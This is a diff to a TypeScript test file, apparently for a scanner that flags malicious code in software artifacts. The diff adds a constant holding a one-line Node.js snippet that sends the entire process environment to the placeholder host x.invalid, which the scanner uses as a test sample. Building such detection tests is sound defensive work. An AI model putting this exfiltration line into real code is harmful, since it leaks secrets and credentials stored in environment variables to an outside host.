@@ -1,7 +1,10 @@
 import type { Sample } from '../rules/sample';
 import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
-import { hook, JS, PY, type SilenceCase as Case } from '../testing/silence-cases';
+import { hook, PY, type SilenceCase as Case } from '../testing/silence-cases';
 import { analyzeArtifact } from './analyze-artifact';
+
+/** Sends the environment away. */
+const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));\n`;
 
 /** `cefaedfe` is the start of a Mach-O program, and a name of four letters in Latin-1. */
 const MACH_O_NAME = 'cefaedfe';
